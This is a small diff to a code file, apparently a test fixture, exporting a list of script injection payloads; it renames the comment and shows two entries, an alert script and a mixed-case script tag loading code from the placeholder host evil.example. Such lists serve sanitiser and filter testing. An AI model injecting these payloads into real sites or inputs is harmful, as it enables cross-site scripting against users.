@@ -1,4 +1,4 @@
-/** Sixty ways in which a text may try to become more than text. */
+/** Sixty script injection payloads. */
 export const PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></ScRiPt>',
